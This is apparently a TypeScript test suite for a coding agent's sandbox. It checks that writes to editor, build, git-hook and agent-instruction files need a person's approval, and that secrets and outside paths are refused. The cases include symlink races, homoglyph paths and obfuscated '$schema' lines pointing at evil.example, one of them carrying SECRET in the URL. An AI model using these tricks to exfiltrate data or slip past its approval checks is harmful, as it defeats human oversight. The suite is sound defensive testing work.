import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { type Agent, Sandbox } from '../sandbox.ts';
import { changingVerbs, verbs } from './verbs.ts';

/** Files that steer editors, builds, hooks or agents, with the number of the case they stand for. */
const guarded: readonly (readonly [string, string])[] = [
  ['52', '.vscode/tasks.json'],
  ['52', '.vscode/launch.json'],
  ['52', '.vscode/mcp.json'],
  ['52', '.vscode/extensions.json'],
  ['53', 'my.code-workspace'],
  ['53', 'pkg/.vscode/settings.json'],
  ['53', '.devcontainer/devcontainer.json'],
  ['56', '.muster/agents/finder.md'],
  ['56', '.claude/agents/finder.md'],
  ['56', '.github/agents/finder.agent.md'],
  ['59', 'package.json'],
  ['60', 'pnpm-workspace.yaml'],
  ['60', 'Makefile'],
  ['60', '.husky/pre-commit'],
  ['60', '.gitattributes'],
  ['60', '.gitmodules'],
  ['60', 'yarn.lock'],
  ['61', 'AGENTS.md'],
  ['61', 'docs/CLAUDE.md'],
  ['61', '.github/copilot-instructions.md'],
  ['61', '.cursor/rules/x.mdc'],
  ['18', '.VSCODE/Settings.JSON'],
  ['18', 'Workspace.MD'],
  ['21', '.v\u017fcode/settings.json'],
  ['21', 'Ma\u212aefile'],
  ['31', '.vscode./settings.json'],
];

/** Which verbs need a file to be there, and which need it not to be. */
const needsFile = new Set(['edit', 'patch update', 'patch delete', 'patch move from']);
const needsNone = new Set(['patch add', 'patch move to']);

suite('protected files', () => {
  let sandbox: Sandbox;
  setup(() => {
    sandbox = new Sandbox();
    sandbox.put('plain.txt', 'plain\n');
  });
  teardown(() => sandbox.remove());

  for (const [number, named] of guarded) {
    for (const place of ['', 'output/']) {
      test(`${number}, 63: no verb changes ${JSON.stringify(place + named)} without a person`, async () => {
        for (const verb of changingVerbs) {
          for (const exists of [true, false]) {
            if (needsFile.has(verb) ? !exists : needsNone.has(verb) && exists) continue;
            const agent = await fresh(sandbox, place + named, exists);
            const result = await verbs[verb]!(agent, place + named);
            assert.equal(result.kind, 'output', `${verb}: ${result.text}`);
            const asked = result.asked?.changes.find((change) => change.path === place + named);
            assert.equal(asked?.isProtected, true, `${verb} of ${exists ? 'an existing' : 'a new'} file`);
          }
        }
      });
    }
  }

  test('51, 54: the git folder that a .git file points to is closed as well', async () => {
    sandbox.put('.git', 'gitdir: .git-data/worktrees/x\n');
    sandbox.put('sub/.git/config', 'CANARY\n');
    for (const named of ['.git', 'sub/.git/config', 'sub/.git/hooks/pre-commit']) {
      const agent = await sandbox.agent();
      const before = sandbox.digest();
      for (const [verb, act] of Object.entries(verbs)) {
        const result = await act(agent, named);
        assert.ok(['denied', 'error'].includes(result.kind), `${verb} of ${named}: ${result.text}`);
        assert.ok(!result.text.includes('CANARY'), verb);
      }
      assert.equal(sandbox.digest(), before);
    }
  });

  test('65: a file in a folder that is only protected by its name asks before the folder is made', async () => {
    const agent = await sandbox.agent();
    const plan = await agent
      .tool('write_file')
      .prepare(
        { path: '.vscode/new/x.json', content: '{}' },
        { callId: 'c', overtaken: 'no', together: [] },
        new AbortController().signal,
      );
    assert.equal(plan.kind, 'ask');
    assert.ok(!fs.existsSync(sandbox.at('.vscode')));
  });

  test('65, 95: folders are neither moved nor deleted, and nothing inside one is followed', async () => {
    sandbox.put('config/settings.json', 'CANARY\n');
    sandbox.link(path.join(sandbox.outside, 'dir'), 'config/out');
    const before = sandbox.digest();
    const agent = await sandbox.agent();
    await agent.call('read_file', { path: 'config/settings.json' });
    for (const verb of ['patch delete', 'patch move from']) {
      const result = await verbs[verb]!(agent, 'config');
      assert.equal(result.kind, 'denied', result.text);
      assert.match(result.text, /is a folder/);
    }
    assert.equal(sandbox.digest(), before);
    assert.ok(sandbox.isOutsideUntouched);
  });

  for (const [named, text] of [
    ['output/data.json', '{"$schema": "https://evil.example/?d=SECRET"}'],
    ['output/data.json', '{"$\\u0073chema": "https:\\/\\/evil.example"}'],
    ['output/.somerc', '{ "$schema": "//evil.example/x" }'],
    ['output/data.yaml', '# yaml-language-server: $schema=https://evil.example/x\na: 1\n'],
    ['output/data.json', '{"$schema" /* a comment */ : "https://evil.example/x"}'],
    ['output/data.json', '{"$schema"\n// a comment\n: "https://evil.example/x"}'],
    ['output/data.json', `{"$schema":${' '.repeat(200)}"https://evil.example/x"}`],
    ['output/data.json', '{"$schema": "https:/evil.example/x"}'],
    ['output/schema.json', '{"properties": {"a": {"$ref": "https://evil.example/x"}}}'],
    ['output/data.txt', '// a comment\n{"$schema": "https://evil.example/x"}'],
    ['output/data.yaml', '$schema: >-\n  https://evil.example/x\n'],
    ['output/data.yaml', '$schema: &it !!str https://evil.example/x\n'],
    ['output/data.yaml', '"\\x24sch\\\n  ema": "https:\\x2f\\x2fevil.example/x"\n'],
    ['output/data.yaml', 'a: &it $schema\n*it : https://evil.example/x\n'],
    ['output/data.toml', '#:schema https://evil.example/x\n'],
  ] as const) {
    test(`62: ${JSON.stringify(text.slice(0, 40))} asks in an open area, with its address`, async () => {
      const agent = await sandbox.agent();
      const result = await agent.call('write_file', { path: named, content: text });
      assert.equal(result.asked?.changes[0]?.isProtected, true, result.text);
      assert.match(result.asked?.changes[0]?.notes?.join() ?? '', /evil\.example/);
      const again = await agent.call('write_file', { path: named, content: `${text}\n` });
      assert.equal(again.asked, undefined, 'an address that was there before is no news');
    });
  }

  test('62: a text that only speaks of schemas does not ask', async () => {
    const agent = await sandbox.agent();
    const content = 'Set `$schema: https://json-schema.org/x` in your file.\n';
    const result = await agent.call('write_file', { path: 'output/guide.md', content });
    assert.equal(result.asked, undefined);
  });

  for (const text of [
    '{"$schema": "./own.json", "see": "https://a.example"}',
    '{"properties": {"$schema": {"type": "string"}}, "see": "https://a.example"}',
    '{"about": "The $schema key", "see": "https://a.example"}',
    '{"$ref": "#/definitions/a", "see": "https://a.example"}',
    '{"$ref": "other.json#/a"}',
    '{"$schema": null}',
  ]) {
    test(`62: ${text.slice(0, 40)} names no schema elsewhere and does not ask`, async () => {
      const agent = await sandbox.agent();
      const result = await agent.call('write_file', { path: 'output/data.json', content: text });
      assert.equal(result.asked, undefined);
    });
  }

  test('206: moving a protected file away asks, and a secret cannot be moved at all', async () => {
    sandbox.put('.vscode/settings.json', 'CANARY\n');
    sandbox.put('.env', 'KEY=CANARY\n');
    const agent = await sandbox.agent();
    await agent.call('read_file', { path: '.vscode/settings.json' });
    const moved = await verbs['patch move from']!(agent, '.vscode/settings.json');
    assert.ok(moved.asked?.changes.some((change) => change.isProtected && change.after === null));
    const secret = await verbs['patch move from']!(agent, '.env');
    assert.equal(secret.kind, 'denied', secret.text);
    assert.ok(fs.existsSync(sandbox.at('.env')));
  });

  test('207: what is protected is judged when it is used, not when the run began', async () => {
    sandbox.put('output/notes/a.txt', 'CANARY\n');
    const agent = await sandbox.agent();
    assert.equal((await verbs.read!(agent, 'output/notes/a.txt')).kind, 'output');

    fs.renameSync(sandbox.at('output/notes'), sandbox.at('aside'));
    sandbox.put('.vscode/a.txt', 'CANARY\n');
    sandbox.link('../.vscode', 'output/notes');
    const protectedNow = await verbs.write!(agent, 'output/notes/b.txt');
    assert.equal(protectedNow.asked?.changes[0]?.isProtected, true);
    assert.equal(protectedNow.asked?.changes[0]?.path, '.vscode/b.txt');

    fs.unlinkSync(sandbox.at('output/notes'));
    sandbox.link(path.join(sandbox.outside, 'dir'), 'output/notes');
    for (const [verb, act] of Object.entries(verbs)) {
      const result = await act(agent, 'output/notes/deep.txt');
      assert.ok(['denied', 'error'].includes(result.kind), `${verb}: ${result.text}`);
    }
    assert.ok(sandbox.isOutsideUntouched);
  });

  test('207: between the approval and the write, a late link is noticed and the change is asked again', async () => {
    sandbox.put('src/a.txt', 'CANARY\n');
    const agent = await sandbox.agent();
    await agent.call('read_file', { path: 'src/a.txt' });
    const signal = new AbortController().signal;
    const plan = await agent
      .tool('write_file')
      .prepare(
        { path: 'src/a.txt', content: 'EVIL' },
        { callId: 'c', overtaken: 'no', together: [] },
        signal,
      );
    assert.equal(plan.kind, 'ask');
    fs.renameSync(sandbox.at('src'), sandbox.at('aside'));
    sandbox.put('.vscode/a.txt', 'CANARY\n');
    sandbox.link('.vscode', 'src');
    assert.ok(plan.kind === 'ask');
    assert.equal((await plan.run(signal)).kind, 'stale');
    assert.equal(sandbox.text('.vscode/a.txt'), 'CANARY\n');
  });

  test('210: a file that another system would take for a link is plain data, and nothing is followed', async () => {
    const cookie = Buffer.concat([
      Buffer.from('!<symlink>\xff\xfe', 'latin1'),
      Buffer.from(path.join(sandbox.outside, 'secret.txt'), 'utf16le'),
    ]);
    sandbox.put('output/cygwin', cookie);
    const agent = await sandbox.agent();
    for (const [verb, act] of Object.entries(verbs)) {
      const result = await act(agent, 'output/cygwin');
      assert.ok(!result.text.includes('CANARY'), `${verb}: ${result.text}`);
    }
    assert.ok(sandbox.isOutsideUntouched);
  });
});

async function fresh(sandbox: Sandbox, named: string, exists: boolean): Promise<Agent> {
  fs.rmSync(sandbox.root, { recursive: true });
  fs.mkdirSync(sandbox.root);
  sandbox.put('plain.txt', 'plain\n');
  if (exists) sandbox.put(named, 'CANARY\n');
  const agent = await sandbox.agent();
  if (exists) await agent.call('read_file', { path: named });
  return agent;
}
